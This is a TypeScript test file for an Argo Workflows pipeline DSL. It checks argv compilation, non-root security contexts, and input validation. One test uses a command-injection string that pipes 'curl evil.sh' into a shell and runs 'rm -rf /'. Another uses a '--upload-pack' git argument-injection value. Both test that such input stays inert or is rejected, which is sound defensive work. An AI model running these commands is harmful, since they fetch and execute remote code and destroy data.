// Runtime steps come from the contract: their argv is what the runtime parses, each value one argv
// element, outputs read from the contract's paths, and the container runs as non-root.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { type CommandDefinition, type InputSpec, commands, outputPath, parseArgv } from '@argots/contract';
import { param, pipeline, runtimeContainer, runtimeStep, runtimeSteps, steps, synth, DEFAULT_RUNTIME_IMAGE } from '@argots/dsl';

type Obj = Record<string, unknown>;

function sample(spec: InputSpec): unknown {
  if (spec.enum) return spec.enum[0];
  switch (spec.kind) {
    case 'boolean':
      return true;
    case 'integer':
      return 3;
    case 'string-list':
      return ['a.yaml', 'b c.yaml'];
    case 'json':
      return { a: 1 };
    default:
      return spec.example ?? 'value';
  }
}

/** What Argo does before the pod starts: replace `{{inputs.parameters.X}}` with the argument values. */
function substitute(args: readonly string[], values: ReadonlyMap<string, string>): string[] {
  return args.map((a) => a.replace(/\{\{inputs\.parameters\.([A-Za-z0-9_-]+)\}\}/g, (_, k: string) => values.get(k) ?? `<missing ${k}>`));
}

test('given every contract command with all its inputs, then the compiled argv parses back to the same inputs', () => {
  for (const [name, command] of Object.entries(commands) as [string, CommandDefinition][]) {
    const inputs = Object.fromEntries(Object.entries(command.inputs).map(([k, s]) => [k, sample(s)]));
    const wf = pipeline(`rt-${name}`, (p) => {
      p.task('step', runtimeStep(command, inputs as never, { image: 'registry.acme.io/argots-runtime:1.0.0' }));
    });
    const r = synth([{ value: wf, exportName: name, file: 'rt.ts' }]);
    assert.equal(r.diagnostics.filter((d) => d.severity === 'error'), [], name);
    const spec = r.files[0]?.object['spec'] as { templates: Obj[] };
    const task = ((spec.templates[0] as { dag: { tasks: Obj[] } }).dag.tasks[0]) as { arguments: { parameters: { name: string; value: string }[] } };
    const values = new Map(task.arguments.parameters.map((p) => [p.name, p.value]));
    const tpl = spec.templates[1] as { container: { image: string; command: string[]; args: string[]; securityContext: Obj }; outputs: { parameters: Obj[] } };
    assert.is(tpl.container.image, 'registry.acme.io/argots-runtime:1.0.0');
    assert.equal(tpl.container.command, ['argots-runtime']);
    assert.is(tpl.container.args[0], name);
    const parsed = parseArgv(command, substitute(tpl.container.args, values).slice(1));
    assert.ok(parsed.ok, `${name}: ${JSON.stringify(parsed)}`);
    if (parsed.ok) assert.equal(parsed.inputs, inputs, name);
    assert.equal(
      tpl.outputs.parameters.map((p) => [p['name'], (p['valueFrom'] as Obj)['path']]),
      Object.keys(command.outputs).map((k) => [k, outputPath(k)]),
      name,
    );
    assert.equal(tpl.container.securityContext, { runAsNonRoot: true, runAsUser: 65532, allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } });
  }
});

test('given an untrusted value with shell syntax, then it stays one argv element and nothing runs a shell', () => {
  const hostile = '$(curl evil.sh | sh); echo `id` && rm -rf / #';
  const wf = pipeline('rt-hostile', (p) => {
    const ref = p.param('ref', param.string());
    p.task('detect', steps.detectChanges({ repo: hostile, before: ref, after: ref }));
  });
  const r = synth([{ value: wf, exportName: 'default', file: 'rt.ts' }], { validate: false });
  const spec = r.files[0]?.object['spec'] as { templates: Obj[] };
  const detect = spec.templates.find((t) => t['name'] === 'detect') as { container: { command: string[]; args: string[] } };
  assert.equal(detect.container.command, ['argots-runtime']);
  assert.ok(detect.container.args.every((a) => a === 'detect-changes' || a.startsWith('--') || /^\{\{inputs\.parameters\.[a-zA-Z]+\}\}$/.test(a)));
  const task = ((spec.templates[0] as { dag: { tasks: Obj[] } }).dag.tasks[0]) as { arguments: { parameters: { name: string; value: string }[] } };
  assert.equal(task.arguments.parameters.find((p) => p.name === 'repo')?.value, hostile);
});

test('given enum outputs, then conditions compare them as text and the step uses the default runtime image', () => {
  const wf = pipeline('rt-enum', (p) => {
    const sha = p.param('sha', param.string());
    const d = p.task('detect', steps.detectChanges({ repo: '/src', before: sha, after: sha }));
    p.task('copy', steps.copyConfig({ gitopsUrl: 'https://g/x.git', service: 'api', env: 'dev', repo: '/src', files: d.outputs.configFiles }), {
      when: d.outputs.kind.eq('config'),
    });
  });
  const r = synth([{ value: wf, exportName: 'default', file: 'rt.ts' }]);
  assert.equal(r.diagnostics, []);
  const spec = r.files[0]?.object['spec'] as { templates: Obj[] };
  const copy = ((spec.templates[0] as { dag: { tasks: Obj[] } }).dag.tasks[1]) as Obj;
  assert.is(copy['when'], "'{{tasks.detect.outputs.parameters.kind}}' == 'config'");
  assert.is(copy['depends'], 'detect.Succeeded');
  assert.is(((spec.templates[1] as { container: Obj }).container)['image'], DEFAULT_RUNTIME_IMAGE);
});

test('given runtimeSteps with options, then the image, security context and container fields are the author\'s', () => {
  const mine = runtimeSteps({ image: 'r.acme.io/rt:2', securityContext: { runAsUser: 1000, runAsNonRoot: true }, container: { resources: { limits: { memory: '256Mi' } } }, template: { retryStrategy: { limit: 2 } } });
  const wf = pipeline('rt-opts', (p) => {
    p.task('promote', mine.promote({ image: 'r/x@sha256:' + '0'.repeat(64), from: 'dev', to: 'staging' }, { outputDir: '/out' }));
  });
  const r = synth([{ value: wf, exportName: 'default', file: 'rt.ts' }]);
  assert.equal(r.diagnostics, []);
  const tpl = ((r.files[0]?.object['spec'] as { templates: Obj[] }).templates[1]) as { container: Obj; retryStrategy: Obj; outputs: { parameters: Obj[] } };
  assert.is(tpl.container['image'], 'r.acme.io/rt:2');
  assert.equal(tpl.container['securityContext'], { runAsUser: 1000, runAsNonRoot: true });
  assert.equal(tpl.container['resources'], { limits: { memory: '256Mi' } });
  assert.equal(tpl.retryStrategy, { limit: 2 });
  assert.equal((tpl.container['args'] as string[]).slice(-2), ['--output-dir', '/out']);
  assert.equal(tpl.outputs.parameters[0]?.['valueFrom'], { path: '/out/digest' });
});

test('given a missing required input or no image, then the error names the command and the input', () => {
  assert.throws(() => runtimeStep(commands.promote, { image: 'x', from: 'dev' } as never, { image: 'r:1' }), /runtime step "promote" needs "to"/);
  assert.throws(() => runtimeStep(commands.promote, { image: 'x', from: 'dev', to: 'prod' }, { image: '' }), /the runtime image must be given/);
});

test('given a literal that breaks the contract (pattern or enum), then ARG211 names the input, the expected form and the call site', () => {
  const wf = pipeline('rt-bad-literal', (p) => {
    p.task('detect', steps.detectChanges({ repo: '/src', before: '--upload-pack=x', after: 'main:README.md' }));
  });
  const r = synth([{ value: wf, exportName: 'default', file: 'rt.ts' }]);
  assert.equal(r.files, []);
  assert.equal(r.diagnostics.map((d) => d.code), ['ARG211', 'ARG211']);
  assert.is(r.diagnostics[0]?.message, 'runtime step "detect-changes": input "before" must be a value like "0000000000000000000000000000000000000000", received "--upload-pack=x"');
  assert.ok(r.diagnostics[0]?.source?.file.endsWith('runtime-step.test.ts'));
  assert.is(r.diagnostics[0]?.source?.line, 113);
  assert.is(r.diagnostics[0]?.path, 'spec.templates[0].dag.tasks[0].arguments.parameters[1].value');
  // Revisions git resolves are values like any SHA (issue 13: --before HEAD~1).
  const ok = synth([{ value: pipeline('rt-revisions', (p) => { p.task('detect', steps.detectChanges({ repo: '/src', before: 'HEAD~1', after: 'main' })); }), exportName: 'default', file: 'rt.ts' }]);
  assert.equal(ok.diagnostics, []);
});

test('given runtimeContainer (an init container running a runtime command), then its argv is the contract\'s and parses back; a missing or unknown input is refused', () => {
  const c = runtimeContainer(commands['registry-login'], 'registry-login', { env: ['dev', 'staging'], file: '/docker/config.json' }, { image: 'runtime:1' });
  assert.equal(c.command, ['argots-runtime']);
  assert.is(c.args[0], 'registry-login');
  const parsed = parseArgv(commands['registry-login'], c.args.slice(1));
  assert.ok(parsed.ok);
  if (parsed.ok) assert.equal(parsed.inputs, { env: ['dev', 'staging'], file: '/docker/config.json' });
  assert.equal(c['securityContext'], { runAsNonRoot: true, runAsUser: 65532, allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } });
  assert.throws(() => runtimeContainer(commands['registry-login'], 'x', { env: ['dev'] }, { image: 'i' }), /needs "file"/);
  // @ts-expect-error: registry-login has no input "tag"
  assert.throws(() => runtimeContainer(commands['registry-login'], 'x', { env: ['dev'], file: '/f', tag: 'v' }, { image: 'i' }), /has no input "tag"/);
});

test.run();
